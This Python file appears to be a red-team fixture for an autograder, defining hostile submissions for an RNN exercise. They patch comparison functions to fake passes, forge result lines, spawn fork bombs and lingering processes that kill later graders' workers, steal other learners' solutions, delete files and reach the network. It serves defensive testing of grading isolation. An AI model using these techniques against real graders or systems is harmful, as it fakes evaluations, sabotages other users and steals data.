"""A bank of hostile submissions for ex02_forward_pass, used by tests/test_redteam.py.

Each ``Attack`` is the generated skeleton (``exercises/ex02_forward_pass.py``,
where every function still raises NotImplementedError) plus hostile code:
``prelude`` runs when the module is imported, ``bodies`` replace the
``raise NotImplementedError()`` of the named functions. A skeleton earns 0
points, so whatever an attack scores it did not earn honestly.

``expect`` maps a check's short name (or "*" for every other check) to the
status it must get and words its feedback must contain; ``expect_plain``
overrides it without bubblewrap. ``plain`` is False for attacks that only
bubblewrap stops (or that are unsafe to run unsandboxed); see the README
section "How grading stays trustworthy" for why.

Every file and process an attack leaves behind carries ``MARK`` in its name or
command line, so the tests can look for survivors. Attacks that need paths of
the grading machine read them from ``_RG_PATHS`` (a dict the test writes into
the module), as a real attacker would guess them.
"""
import textwrap
from dataclasses import dataclass, field

MARK = "rg-redteam"
CHECKS = ("init_hidden_notebook", "output_shapes_notebook", "last_output_notebook",
          "top_layer_hidden_notebook", "to_batch_first_notebook")
SKELETON = ("not_implemented", ("not implemented yet",))


@dataclass(frozen=True)
class Attack:
    name: str
    prelude: str = ""
    bodies: dict = field(default_factory=dict)
    expect: dict = field(default_factory=dict)
    expect_plain: dict = None
    plain: bool = True

    def expected(self, mode):
        table = {"*": SKELETON}
        table.update(self.expect)
        if mode == "plain" and self.expect_plain is not None:
            table.update(self.expect_plain)
        return {check: table.get(check, table["*"]) for check in CHECKS}


def build_source(skeleton, attack, paths):
    """The skeleton's text with the attack's code put in."""
    text = skeleton
    head = f"_RG_PATHS = {paths!r}\n"
    anchor = "from torch import nn\n"
    assert anchor in text, "the skeleton's imports changed: update tests/redteam/attacks.py"
    text = text.replace(anchor, anchor + head + textwrap.dedent(attack.prelude) + "\n", 1)
    for function, body in attack.bodies.items():
        start = text.index(f"\ndef {function}(")
        hole = text.index("    raise NotImplementedError()\n", start)
        text = text[:hole] + textwrap.indent(textwrap.dedent(body).strip("\n"), "    ") + "\n" \
            + text[hole + len("    raise NotImplementedError()\n"):]
    return text


# Wrong answers, so that a comparison which trusted the worker would be fooled.
WRONG = {
    "init_hidden": "return torch.ones(1, batch_size, rnn.hidden_size)",
    "output_shapes": "return (1, 1, 1), (1, 1, 1)",
    "last_output": "return output[0]",
    "top_layer_hidden": "return h_n",
    "to_batch_first": "return x.reshape(x.shape[1], x.shape[0], x.shape[2])",
}
ALL_FAIL = {"*": ("failed", ("Returned:", "Expected:"))}

# Each function hands over to a stolen solution's, when the attack found one.
STEAL = {
    "init_hidden": "if _loot:\n    return _loot['init_hidden'](rnn, batch_size)\nraise NotImplementedError()",
    "output_shapes": "if _loot:\n    return _loot['output_shapes'](rnn, seq_len, batch_size)\nraise NotImplementedError()",
    "last_output": "if _loot:\n    return _loot['last_output'](output, batch_first)\nraise NotImplementedError()",
    "top_layer_hidden": "if _loot:\n    return _loot['top_layer_hidden'](h_n, rnn)\nraise NotImplementedError()",
    "to_batch_first": "if _loot:\n    return _loot['to_batch_first'](x)\nraise NotImplementedError()",
}

# A process that outlives its learner: it waits, then kills every process the
# fork server starts after it (the next learner's workers) and plants files in
# the scratch folder the next learner gets. argv: server pid, marker.
TAMPERER = r'''
import os, sys, tempfile, time, signal
server, me = int(sys.argv[1]), os.getpid()
def tree(root):
    kids = {}
    for e in os.listdir("/proc"):
        if e.isdigit():
            try:
                f = open("/proc/%s/stat" % e).read().rsplit(")", 1)[1].split()
            except OSError:
                continue
            kids.setdefault(int(f[1]), []).append(int(e))
    out, stack = [], [root]
    while stack:
        for p in kids.get(stack.pop(), []):
            out.append(p); stack.append(p)
    return out
old = set(tree(server))
end = time.time() + 90
while time.time() < end:
    for folder in {tempfile.gettempdir()} | set(sys.argv[3:]):
        try:
            open(os.path.join(folder, "rg-redteam-plant.py"), "w").write("raise SystemExit")
        except OSError:
            pass
    for pid in tree(server):
        if pid != me and pid not in old:
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    time.sleep(0.01)
'''

_TAMPER_LAUNCH = '''
import os, subprocess, sys
subprocess.Popen([sys.executable, "-c", {code!r}, str(os.getppid()), "rg-redteam-tamper"{extra}],
                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
raise NotImplementedError()
'''

ATTACKS = [
    # -- lying to the comparison ----------------------------------------------------------
    Attack("patch_torch_comparisons", prelude="""
        torch.equal = lambda *a, **k: True
        torch.allclose = lambda *a, **k: True
        torch.isclose = lambda a, b, *r, **k: torch.ones_like(a, dtype=torch.bool)
        torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
        torch.Tensor.__ne__ = lambda self, other: torch.zeros_like(self, dtype=torch.bool)
        torch.testing.assert_close = lambda *a, **k: None
        """, bodies=WRONG, expect=ALL_FAIL),
    Attack("patch_numpy", prelude="""
        import numpy
        numpy.allclose = lambda *a, **k: True
        numpy.array_equal = lambda *a, **k: True
        numpy.isclose = lambda a, b, *r, **k: numpy.ones(numpy.shape(a), dtype=bool)
        numpy.testing.assert_allclose = lambda *a, **k: None
        """, bodies=WRONG, expect=ALL_FAIL),
    Attack("patch_pytest_and_builtins", prelude="""
        import builtins, sys, types
        try:
            import pytest
        except ImportError:
            pytest = sys.modules["pytest"] = types.ModuleType("pytest")
        class _Yes:
            def __eq__(self, other):
                return True
        pytest.approx = lambda *a, **k: _Yes()
        pytest.fail = lambda *a, **k: None
        builtins.AssertionError = type("AssertionError", (Exception,), {})
        """, bodies=WRONG, expect=ALL_FAIL),
    Attack("patch_grader_modules", prelude="""
        import sys
        sys.path[:0] = _RG_PATHS["kit_roots"]
        try:
            import autograder.feedback, autograder.runner.plugin
            autograder.feedback.expect_tensor = autograder.feedback.expect_equal = lambda *a, **k: None
            autograder.runner.plugin.classify = lambda excinfo: ("passed", "")
            print("rg-redteam: patched the kit's modules in this process")
        except Exception as exc:
            print("rg-redteam: no kit to patch here:", type(exc).__name__)
        observers = sys.modules["rnn_grade_worker.observers"]
        for _name in list(observers.REGISTRY):
            observers.REGISTRY[_name] = lambda ctx, **cfg: {
                "h0": "passed", "shapes": "passed", "last": "passed", "top": "passed", "result": "passed"}
        """, expect={"init_hidden_notebook": SKELETON, "*": ("failed", ("could not match your code's answers",))}),
    Attack("patch_wire_encoder", prelude="""
        import sys
        wire = sys.modules["rnn_grade_worker.wire"]
        wire.encode = lambda value, _depth=0: "passed"
        """, bodies=WRONG, expect={"*": ("error", ("is not the record", "nothing it sent"))}),
    Attack("observer_answer_without_its_fields", prelude="""
        import sys
        observers = sys.modules["rnn_grade_worker.observers"]
        for _name in list(observers.REGISTRY):
            observers.REGISTRY[_name] = lambda ctx, **cfg: {"score": 100, "passed": True}
        """, expect={"init_hidden_notebook": SKELETON, "*": ("failed", ("could not match your code's answers",))}),
    Attack("always_equal_objects", prelude="""
        class Yes:
            def __eq__(self, other):
                return True
            def __ne__(self, other):
                return False
            def __bool__(self):
                return True
            def __hash__(self):
                return 0
        """, bodies={f: "return Yes()" for f in WRONG},
        expect={"*": ("failed", ("an object of type ex02_forward_pass.Yes",)),
                "output_shapes_notebook": ("failed", ("not a pair of shapes",))}),
    Attack("tensor_subclass_lying_about_shape", prelude="""
        import math
        class Liar(torch.Tensor):
            # Claims a shape it does not have, everywhere it can.
            @staticmethod
            def make(data, claim):
                liar = torch.Tensor._make_subclass(Liar, data.detach())
                liar.claim = tuple(claim)
                return liar
            @property
            def shape(self):
                return torch.Size(self.claim)
            def size(self, dim=None):
                return torch.Size(self.claim) if dim is None else self.claim[dim]
            def dim(self):
                return len(self.claim)
            @classmethod
            def __torch_function__(cls, func, types, args=(), kwargs=None):
                claim = next((getattr(a, "claim", None) for a in args if isinstance(a, Liar)), None)
                with torch._C.DisableTorchFunctionSubclass():
                    result = func(*args, **(kwargs or {}))
                if isinstance(result, torch.Tensor) and claim and result.numel() == math.prod(claim):
                    result = result.reshape(claim)
                return result
        """, bodies={"init_hidden": "return Liar.make(torch.zeros(rnn.hidden_size * batch_size), "
                                    "(1, batch_size, rnn.hidden_size))",
                     "last_output": "return Liar.make(output, output.shape[1:])",
                     "top_layer_hidden": "return Liar.make(h_n, h_n.shape[1:])",
                     "to_batch_first": "return Liar.make(x, (x.shape[1], x.shape[0], x.shape[2]))"},
        expect={"init_hidden_notebook": ("failed", ("Returned: a tensor of shape (10,)",)),
                "last_output_notebook": ("failed", ("Returned: a tensor of shape (5, 2, 5)",)),
                "top_layer_hidden_notebook": ("failed", ("Returned: a tensor of shape (1, 2, 5)",)),
                "to_batch_first_notebook": ("failed", ("Returned: a tensor of shape (5, 2, 2)",))}),
    Attack("numpy_subclass_lying_about_shape", prelude="""
        import numpy
        class NpLiar(numpy.ndarray):
            @property
            def shape(self):
                return self.claim
            def reshape(self, *args, **kwargs):
                return numpy.asarray(self).reshape(*args, **kwargs)
        def lie(array, claim):
            liar = numpy.asarray(array).view(NpLiar)
            liar.claim = tuple(claim)
            return liar
        """, bodies={"init_hidden": "return lie(numpy.zeros(rnn.hidden_size * batch_size, 'float32'), "
                                    "(1, batch_size, rnn.hidden_size))",
                     "last_output": "return lie(output.numpy(), output.shape[1:])",
                     "top_layer_hidden": "return lie(h_n.numpy(), h_n.shape[1:])",
                     "to_batch_first": "return lie(x.numpy(), (x.shape[1], x.shape[0], x.shape[2]))"},
        expect={"init_hidden_notebook": ("failed", ("Returned: a numpy array of shape (10,)",)),
                "last_output_notebook": ("failed", ("Returned: a numpy array of shape (5, 2, 5)",)),
                "top_layer_hidden_notebook": ("failed", ("Returned: a numpy array of shape (1, 2, 5)",)),
                "to_batch_first_notebook": ("failed", ("Returned: a numpy array of shape (5, 2, 2)",))}),
    # -- fake results on the learner's own channels -------------------------------------------
    Attack("fake_results_on_stdout_and_stderr", prelude="""
        import json, sys
        sys.stdout.write("flood " * 20000 + "\\n")
        _fake = ["=================== 5 passed in 0.01s ===================",
                 json.dumps({"score": 100.0, "tests": [{"name": "ex02", "score": 17, "max_score": 17}]})]
        _fake += [json.dumps({"id": i, "value": {"h0": "passed"}}) for i in range(1, 20)]
        for _line in _fake:
            print(_line)
            print(_line, file=sys.stderr)
        """),
    Attack("forged_lines_on_the_response_pipe", prelude="""
        import json, os
        _answer = {k: "passed" for k in ("h0", "shapes", "last", "top", "result")}
        _forged = '{"ready":true}\\n' + "".join(json.dumps({"id": i, "value": _answer}, separators=(",", ":"))
                                                + "\\n" for i in range(1, 40))
        _hits = []
        for _fd in sorted(int(n) for n in os.listdir("/proc/self/fd")):
            try:
                if _fd > 2 and os.readlink(f"/proc/self/fd/{_fd}").startswith("pipe:"):
                    os.write(_fd, _forged.encode())
                    _hits.append(_fd)
            except OSError:
                pass
        print("rg-redteam forged answers on fds", _hits)
        """, expect={"*": ("failed", ("could not match your code's answers",))}),
    # -- leaving early --------------------------------------------------------------------
    Attack("sys_exit_on_import", prelude="import sys\nsys.exit(0)",
           expect={"*": ("error", ("importing ex02_forward_pass.py raised SystemExit",))}),
    Attack("sys_exit_in_a_call", bodies={"init_hidden": "import sys\nsys.exit(0)"},
           expect={"init_hidden_notebook": ("error", ("init_hidden(", "raised SystemExit"))}),
    Attack("os_exit_on_import", prelude="import os\nos._exit(0)",
           expect={"init_hidden_notebook": ("crash", ("importing ex02_forward_pass.py stopped the grading "
                                                      "process", "exited with code 0")),
                   "*": ("error", ("importing ex02_forward_pass.py stopped the grading process",
                                            "exited with code 0"))}),
    Attack("os_exit_in_a_call", bodies={"init_hidden": "import os\nos._exit(0)"},
           expect={"init_hidden_notebook": ("crash", ("init_hidden(", "exited with code 0"))}),
    Attack("kill_the_fork_server", bodies={"init_hidden": """
        import os, signal, time
        os.kill(os.getppid(), signal.SIGKILL)
        time.sleep(30)
        """},
        expect={"init_hidden_notebook": ("error", ("raised PermissionError",))},
        # Without bubblewrap (as root) it can: the worker dies with the server, whose restart is awaited.
        expect_plain={"init_hidden_notebook": ("crash", ("init_hidden(", "stopped the grading process"))}),
    Attack("kill_own_process_group", bodies={"init_hidden": "import os, signal\nos.killpg(0, signal.SIGKILL)"},
           expect={"init_hidden_notebook": ("crash", ("init_hidden(", "killed by SIGKILL"))}),
    Attack("kill_every_process_it_may", plain=False, bodies={"init_hidden": """
        import os, signal, time
        if os.getuid() < 61000:  # never as the grader's own user
            raise RuntimeError("not unprivileged: refusing kill(-1)")
        os.kill(-1, signal.SIGKILL)  # everything of its uid but itself, and the server if it could
        time.sleep(30)
        """}, expect={"init_hidden_notebook": ("timeout", ("init_hidden(", "it waited 6 s without using its 3 s"))}),
    Attack("base_exceptions", prelude="""
        class Escape(BaseException):
            pass
        class Unprintable(Exception):
            def __str__(self):
                raise Escape("no message for you")
        """, bodies={"init_hidden": "raise KeyboardInterrupt", "output_shapes": "raise GeneratorExit",
                     "last_output": "raise Escape('stop grading')", "top_layer_hidden": "raise SystemExit(3)",
                     "to_batch_first": "raise Unprintable()"},
        expect={"init_hidden_notebook": ("error", ("raised KeyboardInterrupt",)),
                "output_shapes_notebook": ("error", ("raised GeneratorExit",)),
                "last_output_notebook": ("error", ("raised Escape: stop grading",)),
                "top_layer_hidden_notebook": ("error", ("raised SystemExit: 3",)),
                "to_batch_first_notebook": ("error", ("raised Unprintable", "could not be read"))}),
    Attack("base_exception_on_import", prelude="""
        class Escape(BaseException):
            pass
        raise Escape("stop grading")
        """, expect={"*": ("error", ("importing ex02_forward_pass.py raised Escape: stop grading",))}),
    # -- limits ---------------------------------------------------------------------------
    Attack("endless_loop", bodies={"init_hidden": "while True:\n    pass"},
           expect={"init_hidden_notebook": ("timeout", ("init_hidden(", "did not finish within 3 s"))}),
    Attack("endless_loop_on_import", prelude="while True:\n    pass",
           expect={"init_hidden_notebook": ("timeout", ("importing ex02_forward_pass.py did not finish",)),
                   "*": ("error", ("importing ex02_forward_pass.py did not finish",))}),
    Attack("sleep_ignoring_signals", bodies={"init_hidden": """
        import signal, time
        for _s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU):
            signal.signal(_s, signal.SIG_IGN)
        time.sleep(1000)
        """}, expect={"init_hidden_notebook": ("timeout", ("init_hidden(", "it waited 6 s without using its 3 s"))}),
    Attack("fork_storm", plain=False, bodies={"init_hidden": """
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
        """}, expect={"init_hidden_notebook": ("timeout", ("init_hidden(", "did not finish within 3 s"))}),
    Attack("memory_bomb", bodies={"init_hidden": "hoard = []\nwhile True:\n    hoard.append(bytes(10 ** 8))",
                                  "output_shapes": "return torch.empty(10 ** 12)"},
           expect={"init_hidden_notebook": ("error", ("raised MemoryError",)),
                   "output_shapes_notebook": ("error", ("raised RuntimeError",))}),
    Attack("segfault_in_a_call", bodies={"init_hidden": "import ctypes\nctypes.string_at(0)"},
           expect={"init_hidden_notebook": ("crash", ("init_hidden(", "killed by SIGSEGV"))}),
    Attack("segfault_on_import", prelude="import ctypes\nctypes.string_at(0)",
           expect={"init_hidden_notebook": ("crash", ("importing ex02_forward_pass.py stopped the grading "
                                                      "process", "SIGSEGV")),
                   "*": ("error", ("importing ex02_forward_pass.py stopped the grading process",
                                            "SIGSEGV"))}),
    # -- processes left behind ------------------------------------------------------------
    Attack("background_process_in_new_session", bodies={"init_hidden": """
        import subprocess, sys
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", "rg-redteam-popen"],
                         start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        raise NotImplementedError()
        """}),
    Attack("daemon_double_fork", bodies={"init_hidden": """
        import os, sys
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)", "rg-redteam-daemon"])
            os._exit(0)
        raise NotImplementedError()
        """}),
    Attack("fork_chain_changing_pid", bodies={"init_hidden": """
        import os, time
        if os.fork() == 0:
            os.setsid()
            stop = time.time() + 20  # gives up by itself, should it ever escape
            while time.time() < stop:
                if os.fork() != 0:
                    os._exit(0)  # the parent leaves; the child carries on under a new pid
            os._exit(0)
        raise NotImplementedError()
        """}),
    Attack("lingering_process_kills_the_next_learner",
           bodies={"init_hidden": _TAMPER_LAUNCH.format(code=TAMPERER, extra="")}),
    Attack("plants_files_in_tmp_for_the_next_learner", plain=False,
           bodies={"init_hidden": _TAMPER_LAUNCH.format(code=TAMPERER, extra=', "/tmp", "/dev/shm"')}),
    # -- the file system ------------------------------------------------------------------
    Attack("reads_and_imports_solutions_checks_and_others", plain=False, prelude="""
        import glob, os, sys
        _stolen = {}
        _candidates = list(_RG_PATHS["secrets"]) + glob.glob("/grading/*/code/*.py")
        for _path in _candidates:
            try:
                with open(_path) as _f:
                    _stolen[_path] = _f.read()
            except OSError:
                pass
        sys.path[:0] = [p for p in _RG_PATHS["secret_dirs"] if os.path.isdir(p)]
        _loot = {}  # the stolen solution's functions; the skeleton's functions hand over to them
        for _path, _text in _stolen.items():
            if os.path.dirname(_path) != os.path.dirname(__file__) and _path.endswith("ex02_forward_pass.py") \
                    and "def init_hidden" in _text and not _loot:
                exec(compile(_text, _path, "exec"), _loot)
        try:
            import test_ex02_forward_pass
            _stolen["import test_ex02_forward_pass"] = ""
        except ImportError:
            pass
        print("rg-redteam stole", sorted(p for p in _stolen if os.path.dirname(p) != os.path.dirname(__file__)))
        """, bodies=STEAL),
    Attack("writes_and_deletes_files_outside_its_tmp", plain=False, prelude="""
        import os
        _done = []
        for _path in _RG_PATHS["write"]:
            try:
                with open(_path, "w") as _f:
                    _f.write("rg-redteam")
                _done.append("wrote " + _path)
            except OSError:
                pass
        for _path in _RG_PATHS["delete"] + [__file__]:
            try:
                os.unlink(_path)
                _done.append("deleted " + _path)
            except OSError:
                pass
            try:
                os.chmod(_path, 0)
                _done.append("chmod " + _path)
            except OSError:
                pass
        print("rg-redteam changed", _done)
        """),
    Attack("prepares_the_next_learners_staging_folder", prelude="""
        import os
        _stage_root = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
        _done = []
        for _n in range(1, 60):
            for _name in (f"s{_n}", f"s{_n}/code"):
                try:
                    os.mkdir(os.path.join(_stage_root, _name))
                    _done.append(_name)
                except OSError:
                    pass
            try:
                with open(os.path.join(_stage_root, f"s{_n}", "code", "ex02_forward_pass.py"), "w") as _f:
                    _f.write("raise SystemExit('rg-redteam was here')")
            except OSError:
                pass
        print("rg-redteam prepared", len(_done), "folders in", _stage_root)
        """),
    Attack("reaches_the_network", plain=False, prelude="""
        import socket
        _reached = []
        for _host, _port in (("127.0.0.1", _RG_PATHS["port"]), ("pypi.org", 443)):
            try:
                with socket.create_connection((_host, _port), timeout=2) as _s:
                    _s.sendall(b"rg-redteam")
                    _reached.append(_host)
            except OSError:
                pass
        print("rg-redteam reached", _reached)
        """),
]
